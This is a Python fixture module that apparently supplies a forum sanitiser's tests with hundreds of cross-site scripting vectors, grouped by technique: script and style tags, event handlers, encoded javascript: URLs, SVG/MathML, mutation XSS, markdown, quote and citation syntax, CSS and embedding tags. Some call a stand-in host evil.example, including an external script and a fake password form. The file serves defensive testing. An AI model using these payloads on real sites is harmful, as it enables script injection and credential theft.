"""Hostile markup: the strings an attacker would type into any field that ends up on a page.

Each vector is plain data (a group, a name unique within the group, the text as typed). A vector
that "works" calls alert, confirm, prompt or print, or makes the browser fetch something from
evil.example; the HTML tests check the markup for the ways such a call could be wired up and the
browser tests trap the calls themselves.

No vector hotlinks an ordinary http(s) image: posts may show remote images (the sanitiser allows
`<img src="https://...">` on purpose), so a request to evil.example from a plain image would be
the feature, not a hole. Every evil.example address here sits where nothing may load it.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Vector:
    group: str
    name: str
    text: str

    @property
    def id(self) -> str:
        return f"{self.group}/{self.name}"


EVIL = "https://evil.example/x"

# --- <script> and <style> tags -------------------------------------------------------------------
SCRIPT_TAGS = {
    "plain": "<script>alert(1)</script>",
    "upper": "<SCRIPT>alert(1)</SCRIPT>",
    "mixed_case": "<ScRiPt>confirm(1)</sCrIpT>",
    "src_external": f'<script src="{EVIL}.js"></script>',
    "src_data": '<script src="data:text/javascript,alert(1)"></script>',
    "space_before_close": "<script >prompt(1)</script >",
    "newline_in_tag": "<script\n>alert(1)</script\n>",
    "tab_in_tag": "<script\t>alert(1)</script>",
    "slash_attr": "<script/src=data:,alert(1)></script>",
    "self_closing": '<script src="data:,alert(1)"/>',
    "unclosed": "<script>alert(1)",
    "nested_split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "double_open": "<<script>alert(1);//<</script>",
    "broken_nesting": "<b><script>alert(1)</b></script>",
    "type_module": '<script type="module">alert(1)</script>',
    "in_paragraph": "Some text <script>print()</script> more text",
    "entity_encoded": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "double_encoded": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "null_byte": "<scri\x00pt>alert(1)</script>",
    "style_tag": "<style>body{background:url(javascript:alert(1))}</style>",
    "style_import": f"<style>@import '{EVIL}.css';</style>",
    "style_upper": "<STYLE>*{x:expression(alert(1))}</STYLE>",
    "style_then_script": "<style></style><script>alert(1)</script>",
    "xmp_breakout": "<xmp><script>alert(1)</script></xmp>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "textarea_breakout": "</textarea><script>alert(1)</script>",
    "title_breakout": "</title><script>alert(1)</script>",
    "attribute_breakout": '"><script>alert(1)</script>',
    "single_quote_breakout": "'><script>alert(1)</script>",
}

# --- event-handler attributes -------------------------------------------------------------------
_HANDLERS = [
    "onerror", "onload", "onclick", "onmouseover", "onmouseenter", "onfocus", "onblur", "onanimationstart",
    "ontoggle", "onpointerover", "onkeydown", "oninput", "onchange", "onsubmit", "onbegin", "onwheel",
    "ondrag", "oncopy", "onbeforeprint", "onauxclick", "ontransitionend", "onscroll",
]
EVENT_HANDLERS = {f"img_{h}": f"<img src=x {h}=alert(1)>" for h in _HANDLERS}
EVENT_HANDLERS.update({
    "img_no_quotes_slash": "<img/src/onerror=alert(1)>",
    "img_upper": "<IMG SRC=x ONERROR=confirm(1)>",
    "img_backtick": "<img src=`x` onerror=`alert(1)`>",
    "img_newline_between": "<img src=x\nonerror=alert(1)>",
    "img_entity_in_handler": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "a_onclick_autofire": '<a href="#" onclick="alert(1)" id="x">x</a>',
    "p_onmouseover": '<p onmouseover="alert(1)">hover</p>',
    "div_autofocus": '<div tabindex=1 autofocus onfocus="alert(1)">x</div>',
    "details_ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "body_onload": "<body onload=alert(1)>",
    "input_autofocus": "<input autofocus onfocus=prompt(1)>",
    "select_autofocus": "<select autofocus onfocus=alert(1)></select>",
    "textarea_autofocus": "<textarea autofocus onfocus=alert(1)></textarea>",
    "video_source": "<video><source onerror=alert(1)></video>",
    "audio_src": "<audio src=x onerror=alert(1)>",
    "marquee_onstart": "<marquee onstart=alert(1)>x</marquee>",
    "table_background": "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "td_onmouseover": "<table><tr><td onmouseover=alert(1)>cell</td></tr></table>",
    "h1_onclick": "<h1 onclick=alert(1)>heading</h1>",
    "style_animation": '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">x</p>',
    "quote_in_value": '<img src="x" alt="a" onerror="alert(1)" title="b">',
    "attr_without_space": '<img src="x"onerror="alert(1)">',
    "handler_twice": "<img src=x onerror=alert(1) onerror=alert(2)>",
    "ins_onpointerenter": "<ins onpointerenter=alert(1)>x</ins>",
})

# --- dangerous URL schemes, in every spelling, in every place a URL goes ------------------------
_JS_DECIMAL = "".join(f"&#{ord(c)};" for c in "javascript:alert(1)")
_JS_DECIMAL_NO_SEMI = "".join(f"&#{ord(c)}" for c in "javascript:") + "alert(1)"
_JS_DECIMAL_ZEROS = "".join(f"&#{ord(c):07d}" for c in "javascript:") + "alert(1)"
_JS_HEX = "".join(f"&#x{ord(c):x};" for c in "javascript:alert(1)")
_JS_HEX_UPPER_NO_SEMI = "".join(f"&#X{ord(c):X}" for c in "javascript:") + "alert(1)"
_JS_HEX_ZEROS = "".join(f"&#x{ord(c):06x};" for c in "javascript:") + "alert(1)"
_JS_PERCENT = "".join(f"%{ord(c):02X}" for c in "javascript:") + "alert(1)"

SCHEME_SPELLINGS = {
    "js_plain": "javascript:alert(1)",
    "js_mixed_case": "JaVaScRiPt:confirm(1)",
    "js_upper": "JAVASCRIPT:alert(1)",
    "js_leading_space": " javascript:alert(1)",
    "js_leading_control": "\x01javascript:alert(1)",
    "js_leading_entity_control": "&#x01;javascript:alert(1)",
    "js_tab_inside": "java\tscript:alert(1)",
    "js_newline_inside": "java\nscript:alert(1)",
    "js_cr_inside": "java\rscript:alert(1)",
    "js_tab_entity": "java&#9;script:alert(1)",
    "js_newline_entity": "java&#x0A;script:alert(1)",
    "js_named_tab": "java&Tab;script&colon;alert(1)",
    "js_named_newline": "javascript&NewLine;:alert(1)",
    "js_decimal": _JS_DECIMAL,
    "js_decimal_no_semicolon": _JS_DECIMAL_NO_SEMI,
    "js_decimal_leading_zeros": _JS_DECIMAL_ZEROS,
    "js_hex": _JS_HEX,
    "js_hex_upper_no_semicolon": _JS_HEX_UPPER_NO_SEMI,
    "js_hex_leading_zeros": _JS_HEX_ZEROS,
    "js_percent": _JS_PERCENT,
    "js_colon_percent": "javascript%3Aalert(1)",
    "js_unicode_escape": "\\u006aavascript:alert(1)",
    "js_comment_newline": "javascript://%0Aalert(1)",
    "js_zero_width": "java\u200bscript:alert(1)",
    "js_fullwidth_colon": "javascript\uff1aalert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "vbscript_mixed": "VbScRiPt:MsgBox(1)",
    "data_html_base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data_html": "data:text/html,<script>alert(1)</script>",
    "data_svg_mixed_case": "DaTa:image/svg+xml,<svg onload=alert(1)>",
    "data_entity": "&#100;ata:text/html,<script>alert(1)</script>",
    # Bleach reads "<scheme>:<digits>" as a host and a port, with no scheme at all.
    "js_digits": "javascript:123",
    "js_upper_digit": "JAVASCRIPT:1",
    "js_backtick": "javascript:`x`",
    "js_backtick_unicode": "javascript:`<h1>Sitzung abgelaufen – ваш пароль</h1>`",
    "js_entity_j_digits": "&#106;avascript:1",
    "js_entity_tab_digits": "java&#x09;script:1",
    "js_percent_j_digits": "%6Aavascript:1",
    "js_zero_width_digits": "java\u200bscript:1",
    "data_digits": "data:123",
    "vbscript_digit": "vbscript:1",
}

# Markdown links cannot hold a raw line break or an unbalanced space in their destination, so
# those spellings go in angle brackets there, as CommonMark allows.
def _md_destination(url: str) -> str:
    return f"<{url}>" if any(c in url for c in " \n\r\t<>") else url


URL_CONTEXTS = {
    "md_link": lambda url: f"[click me]({_md_destination(url)})",
    "md_image": lambda url: f"![picture]({_md_destination(url)})",
    "html_a": lambda url: f'<a href="{url}">click me</a>',
    "reference_definition": lambda url: f"[click me][ref]\n\n[ref]: {_md_destination(url)}",
}
_URL_CONTEXTS_FOR_SPELLING = {
    # The plain spellings go everywhere; the rarer ones in the two places they are likeliest to work.
    "js_plain": tuple(URL_CONTEXTS), "js_mixed_case": tuple(URL_CONTEXTS), "vbscript": tuple(URL_CONTEXTS),
    "data_html_base64": tuple(URL_CONTEXTS), "js_decimal": tuple(URL_CONTEXTS), "js_hex": tuple(URL_CONTEXTS),
    "js_digits": tuple(URL_CONTEXTS), "js_backtick": tuple(URL_CONTEXTS), "data_digits": tuple(URL_CONTEXTS),
}
DANGEROUS_URLS = {
    f"{context}__{spelling}": URL_CONTEXTS[context](url)
    for spelling, url in SCHEME_SPELLINGS.items()
    for context in _URL_CONTEXTS_FOR_SPELLING.get(spelling, ("md_link", "html_a"))
}
DANGEROUS_URLS.update({
    "autolink_js": "<javascript:alert(1)>",
    "autolink_js_mixed": "<JavaScript:alert(1)>",
    "autolink_vbscript": "<vbscript:msgbox(1)>",
    "autolink_data": "<data:text/html,<script>alert(1)</script>>",
    "bare_js_text": "javascript:alert(1)",
    "img_src_js": '<img src="javascript:alert(1)">',
    "img_src_data_svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "a_xlink": '<a xlink:href="javascript:alert(1)">x</a>',
    "a_formaction": '<button formaction="javascript:alert(1)">x</button>',
    "form_action_js": '<form action="javascript:alert(1)"><input type=submit></form>',
    "area_href": '<map name=m><area href="javascript:alert(1)" shape=default></map>',
    "md_link_title_js": '[x](javascript:alert(1) "title")',
    "md_link_nested_parens": "[x](javascript:alert((1)))",
    "md_link_escaped_colon": "[x](javascript\\:alert(1))",
    "md_link_percent_in_brackets": "[x](<javascript%3Aalert(1)>)",
    "md_link_entity_in_markdown": "[x](javascript&#58;alert(1))",
    "md_link_html_in_text": "[<img src=x onerror=alert(1)>](https://example.org)",
    "a_href_srcdoc": '<a href="data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E">x</a>',
})

# --- SVG and MathML -----------------------------------------------------------------------------
SVG_MATHML = {
    "svg_onload": "<svg onload=alert(1)>",
    "svg_slash_onload": "<svg/onload=alert(1)>",
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "svg_script_href": '<svg><script href="data:,alert(1)"/></svg>',
    "svg_animate_href": '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
    "svg_set_onbegin": "<svg><set onbegin=alert(1) attributeName=x to=y>",
    "svg_animate_onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg_use_data": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "svg_foreignobject": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "svg_image_xlink": '<svg><image xlink:href="javascript:alert(1)"/></svg>',
    "svg_a_xlink": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "svg_style": "<svg><style>@import url(https://evil.example/x.css)</style></svg>",
    "svg_desc_breakout": "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "svg_title_breakout": "<svg><title><script>alert(1)</script></title></svg>",
    "math_href": '<math href="javascript:alert(1)">click</math>',
    "math_maction": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "math_mtext_img": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "math_annotation_xml": '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    "math_mi_xlink": '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    "embed_svg": '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
}

# --- mutation XSS: markup that re-parses into something else --------------------------------------
MUTATION = {
    "noscript_title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "noscript_style": "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "style_in_svg": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "math_style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math_mi_style": '<math><mi><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "svg_in_math": "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
    "template_breakout": "<template><style></template><img src=x onerror=alert(1)></style></template>",
    "form_nesting": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "comment_img": "<!-- <img src=x onerror=alert(1)> -->",
    "comment_breakout": "<!--><img src=x onerror=alert(1)>-->",
    "comment_bang_breakout": "<!--!><img src=x onerror=alert(1)>-->",
    "comment_in_attribute": '<a title="<!--" href="x">--><img src=x onerror=alert(1)></a>',
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "cdata_in_svg": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "processing_instruction": "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x>",
    "textarea_comment": "<textarea><!--</textarea><img src=x onerror=alert(1)>-->",
    "title_in_svg": "<svg><title><a title=\"</title><img src=x onerror=alert(1)>\"></a></title></svg>",
    "iframe_srcdoc_entity": '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    "select_breakout": "<select><template><img src=x onerror=alert(1)></template></select>",
    "table_breakout": "<table><caption><svg><title></table><img src=x onerror=alert(1)>",
    "noembed": '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "noframes": '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    "iframe_content": '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "backtick_attr_ie": "<img src=`x`onerror=alert(1)>",
}

# --- broken and nested tags ---------------------------------------------------------------------
BROKEN_TAGS = {
    "unclosed_attr_quote": '<img src="x onerror=alert(1)//>',
    "unclosed_tag": "<img src=x onerror=alert(1)",
    "tag_in_attr": '<a href="https://example.org" title="<img src=x onerror=alert(1)>">x</a>',
    "nested_anchors": '<a href="https://example.org"><a href="javascript:alert(1)">x</a></a>',
    "lt_before_tag": "<<img src=x onerror=alert(1)>>",
    "slash_after_name": "<img/onerror=alert(1)/src=x>",
    "extra_slashes": "<img//src=x//onerror=alert(1)>",
    "attr_without_value": "<img src onerror=alert(1)>",
    "equals_in_name": "<img src=x =onerror=alert(1)>",
    "null_in_attribute": "<img src=x o\x00nerror=alert(1)>",
    "closing_tag_attrs": "</p onmouseover=alert(1)>",
    "end_tag_with_script": "</script><script>alert(1)</script>",
    "many_opens": "<b><i><u><s><em>" * 20 + "<img src=x onerror=alert(1)>",
    "deep_nesting": "<div>" * 300 + "<img src=x onerror=alert(1)>" + "</div>" * 300,
    "unmatched_closes": "</div></div></div></p></blockquote><img src=x onerror=alert(1)>",
    "weird_whitespace_in_tag": "<img\x0csrc=x\x0conerror=alert(1)>",
    "unicode_tag_name": "<ſcript>alert(1)</ſcript>",
}

# --- markdown-specific ----------------------------------------------------------------------------
MARKDOWN = {
    "link_title_quote": '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
    "link_title_single": "[x](https://example.org 'a' onmouseover='alert(1)')",
    "link_title_parens": '[x](https://example.org (a" onmouseover="alert(1)))',
    "link_title_entities": '[x](https://example.org "&quot; onmouseover=&quot;alert(1)")',
    "image_title_quote": '![x](x.png "a\\" onerror=\\"alert(1)")',
    "image_alt_quote": '![a" onerror="alert(1)](x.png)',
    "image_alt_html": "![<img src=x onerror=alert(1)>](x.png)",
    "reference_title": '[x][r]\n\n[r]: https://example.org "t\\" onmouseover=\\"alert(1)"',
    "reference_def_only": "[r]: javascript:alert(1)\n\n[r]",
    "reference_image": "![x][r]\n\n[r]: javascript:alert(1)",
    "reference_case": "[x][R]\n\n[r]: JaVaScRiPt:alert(1)",
    "autolink_https_with_quote": '<https://example.org/"onmouseover="alert(1)>',
    "autolink_email_html": "<a@b.c><img src=x onerror=alert(1)>",
    "bare_url_quote": 'https://example.org/"><img src=x onerror=alert(1)>',
    "footnote_payload": "Text[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "footnote_link": "Text[^n]\n\n[^n]: [x](javascript:alert(1))",
    "footnote_label_quote": 'Text[^a"onmouseover="alert(1)]\n\n[^a"onmouseover="alert(1)]: x',
    "footnote_label_html": "Text[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
    "html_block_div": '<div markdown="1">\n\n[x](javascript:alert(1))\n\n</div>',
    "html_block_script": "<div>\n<script>alert(1)</script>\n</div>",
    "html_block_comment": "<!--\n--><script>alert(1)</script><!--\n-->",
    "code_span_tag": "`<img src=x onerror=alert(1)>`",
    "code_span_script": "``<script>alert(1)</script>``",
    "fenced_code_script": "```html\n<script>alert(1)</script>\n```",
    "fenced_language_quote": '```"><img src=x onerror=alert(1)>\ncode\n```',
    "fenced_language_class": "```x onmouseover=alert(1)\ncode\n```",
    "indented_code": "    <script>alert(1)</script>",
    "table_cell": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "table_header": "| <script>alert(1)</script> | b |\n|---|---|\n| 1 | 2 |",
    "table_align_breakout": '| a |\n|:-:|\n| <td align="center" onmouseover="alert(1)">x |',
    "emphasis_around_tag": "*<img src=x onerror=alert(1)>*",
    "heading_tag": "# <img src=x onerror=alert(1)>",
    "list_tag": "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "ordered_start_attr": '1. x\n\n<ol start="1 onmouseover=alert(1)"><li>x</li></ol>',
    "blockquote_tag": "> <img src=x onerror=alert(1)>",
    "escaped_brackets": "\\<script>alert(1)\\</script>",
    "line_break_tag": "line  \n<img src=x onerror=alert(1)>",
    "class_smuggling": '<p class="quote footnote">x</p><a class="cite__link" href="javascript:alert(1)">x</a>',
    "id_smuggling": '<sup id="fn-deadbeef-1"><a href="#fn-deadbeef-1" onclick="alert(1)">1</a></sup>',
    "placeholder_guess": "evidentmarkup0000000000000000n0 <img src=x onerror=alert(1)>",
}

# --- quote markup attributes --------------------------------------------------------------------
QUOTES = {
    "name_breakout": '[quote="x\\" onmouseover=alert(1), post:1, topic:1"]\nhi\n[/quote]',
    "name_quote_breakout": '[quote="x" onmouseover="alert(1), post:1, topic:1"]\nhi\n[/quote]',
    "name_html": '[quote="<img src=x onerror=alert(1)>, post:1, topic:1"]\nhi\n[/quote]',
    "name_script": "[quote=<script>alert(1)</script>]\nhi\n[/quote]",
    "username_param": '[quote="Someone, post:1, topic:1, username:x\\"onmouseover=alert(1)"]\nhi\n[/quote]',
    "post_param": '[quote="alice, post:1\\" onmouseover=\\"alert(1), topic:1"]\nhi\n[/quote]',
    "topic_param": '[quote="alice, post:1, topic:1 onmouseover=alert(1)"]\nhi\n[/quote]',
    "full_param": '[quote="alice, post:1, topic:1, full:\\"><script>alert(1)</script>"]\nhi\n[/quote]',
    "single_quoted": "[quote='x\\' onmouseover=alert(1), post:1']\nhi\n[/quote]",
    "body_payload": '[quote="alice, post:1, topic:1"]\n<img src=x onerror=alert(1)>\n[/quote]',
    "body_link": '[quote="alice, post:1, topic:1"]\n[x](javascript:alert(1))\n[/quote]',
    "body_link_digits": '[quote="alice, post:1, topic:1"]\n[x](javascript:123) <a href="vbscript:1">y</a>\n[/quote]',
    "body_link_backtick": '[quote="alice, post:1, topic:1"]\n<a href="javascript:`x`" onclick="alert(1)">x</a>\n[/quote]',
    "nested_payload": '[quote="alice, post:1"]\n[quote="bob, post:2"]\n<script>alert(1)</script>\n[/quote]\n[/quote]',
    "unclosed_payload": '[quote="alice, post:1"]\n<svg onload=alert(1)>',
    "html_aside_forgery": '<aside class="quote" data-post="1" data-topic="1"><div class="quote__title">x</div>'
                          '<blockquote><img src=x onerror=alert(1)></blockquote></aside>',
    "close_in_code": "`[/quote]`<img src=x onerror=alert(1)>",
    "cross_topic_name": '[quote="alice, post:1, topic:99999999999"]\n<a href=javascript:alert(1)>x</a>\n[/quote]',
}

# --- citation syntax ----------------------------------------------------------------------------
CITATIONS = {
    "js_key": "[@javascript:alert(1)]",
    "doi_breakout": '[@doi:10.5555/"><script>alert(1)</script>]',
    "doi_img": "[@doi:10.5555/x<img/src=x/onerror=alert(1)>]",
    "doi_quote": '[@doi:10.5555/x"onmouseover="alert(1)"]',
    "pmid_payload": "[@pmid:1<svg/onload=alert(1)>]",
    "key_payload": "[@key\"onmouseover=alert(1)]",
    "bare_doi_link_quote": 'https://doi.org/10.5555/x"onmouseover="alert(1)',
    "bare_doi_link_tag": "https://doi.org/10.5555/x<img/src=x/onerror=alert(1)>",
    "doi_in_link_target": '[x](https://doi.org/10.5555/x"onmouseover="alert(1))',
    "angle_doi": "<https://doi.org/10.5555/x'onmouseover='alert(1)>",
    "doi_javascript": "[@doi:javascript:alert(1)]",
    "citation_in_attribute": '<a href="[@doi:10.5555/x]" title="[@doi:10.5555/y]">x</a>',
}

# --- @mentions (the resolver knows "alice") -------------------------------------------------------
MENTIONS = {
    "mention_img": "@<img/src/onerror=alert(1)>",
    "mention_then_img": "@alice<img src=x onerror=alert(1)>",
    "mention_quote": '@alice"onmouseover="alert(1)',
    "mention_in_link_text": "[@alice](javascript:alert(1))",
    "mention_in_attr": '<a title="@alice" href="javascript:alert(1)">x</a>',
    "mention_in_alt": "![@alice](x.png)",
    "mention_html_name": "@alice<script>alert(1)</script>",
    "mention_entity": "@&#97;lice<svg onload=alert(1)>",
}

# --- CSS tricks ---------------------------------------------------------------------------------
CSS = {
    "expression": '<div style="width: expression(alert(1))">x</div>',
    "url_js": '<p style="background:url(javascript:alert(1))">x</p>',
    "url_js_escaped": '<p style="background:url(\\6a avascript:alert(1))">x</p>',
    "url_external": f'<p style="background-image:url({EVIL}.png)">x</p>',
    "behavior": '<p style="behavior: url(x.htc)">x</p>',
    "moz_binding": '<p style="-moz-binding:url(data:text/xml,x)">x</p>',
    "import_in_style_attr": f"<p style=\"@import '{EVIL}.css'\">x</p>",
    "position_overlay": '<a href="https://evil.example" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
    "link_stylesheet": f'<link rel="stylesheet" href="{EVIL}.css">',
    "link_import": f'<link rel="import" href="{EVIL}.html">',
    "link_prefetch": f'<link rel="prefetch" href="{EVIL}">',
}

# --- embedding and page-level tags --------------------------------------------------------------
EMBEDDING = {
    "iframe_js": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe_external": f'<iframe src="{EVIL}"></iframe>',
    "iframe_srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frameset": f'<frameset><frame src="{EVIL}"></frameset>',
    "object_data": '<object data="javascript:alert(1)"></object>',
    "object_external": f'<object data="{EVIL}.swf" type="application/x-shockwave-flash"></object>',
    "embed_src": f'<embed src="{EVIL}.swf">',
    "applet": "<applet code=x.class></applet>",
    "form_external": f'<form action="{EVIL}" method="post"><input name=password><button>Sign in</button></form>',
    "form_button_formaction": f'<form><button formaction="{EVIL}">Go</button></form>',
    "input_image": f'<input type="image" src="{EVIL}.png">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta_refresh_external": f'<meta http-equiv="refresh" content="0; url={EVIL}">',
    "meta_csp": "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline'\">",
    "base_href": f'<base href="{EVIL}/">',
    "base_target": '<base target="_blank" href="javascript:/a/-alert(1)///////">',
    "portal": f'<portal src="{EVIL}"></portal>',
    "video_poster": f'<video poster="{EVIL}.png"></video>',
    "img_srcset": f'<img src="x" srcset="{EVIL}.png 1x">',
    "picture_source": f'<picture><source srcset="{EVIL}.png"><img src="x"></picture>',
    "img_longdesc": '<img src="x" longdesc="javascript:alert(1)">',
    "a_ping": f'<a href="https://example.org" ping="{EVIL}">x</a>',
    "svg_feimage": f'<svg><filter><feImage href="{EVIL}.png"/></filter></svg>',
}

# --- extreme sizes ------------------------------------------------------------------------------
EXTREME = {
    "long_attribute": '<a href="https://example.org/' + "a" * 20_000 + '" title="' + "b" * 20_000 + '">x</a>',
    "long_attribute_then_handler": '<img src="' + "x" * 30_000 + '" onerror="alert(1)">',
    "long_title_breakout": '[x](https://example.org "' + "t" * 10_000 + '\\" onmouseover=\\"alert(1)")',
    "many_handlers": "<img src=x " + " ".join(f"on{n}=alert(1)" for n in ("error", "load", "click") * 200) + ">",
    "many_vectors_one_line": "<img src=x onerror=alert(1)>" * 200,
    "long_word": "javascript:" + "A" * 50_000,
}


_GROUPS = {
    "script_style": SCRIPT_TAGS,
    "event_handler": EVENT_HANDLERS,
    "url_scheme": DANGEROUS_URLS,
    "svg_mathml": SVG_MATHML,
    "mutation": MUTATION,
    "broken_tags": BROKEN_TAGS,
    "markdown": MARKDOWN,
    "quote_markup": QUOTES,
    "citation": CITATIONS,
    "mention": MENTIONS,
    "css": CSS,
    "embedding": EMBEDDING,
    "extreme": EXTREME,
}

VECTORS: tuple[Vector, ...] = tuple(
    Vector(group, name, text) for group, vectors in _GROUPS.items() for name, text in vectors.items()
)
GROUPS: dict[str, tuple[Vector, ...]] = {
    group: tuple(v for v in VECTORS if v.group == group) for group in _GROUPS
}

# Members a vector can mention or quote by name: the tests create them.
MENTIONABLE = ("alice", "bob")


def short(vectors, limit: int) -> tuple[Vector, ...]:
    """The vectors cut to `limit` characters, for fields with a length limit (titles, names,
    credentials, flag notes); a cut payload is still hostile, and often more broken."""
    return tuple(Vector(v.group, v.name, v.text[:limit]) for v in vectors)


def batches(vectors, size: int) -> list[tuple[Vector, ...]]:
    vectors = tuple(vectors)
    return [vectors[i:i + size] for i in range(0, len(vectors), size)]
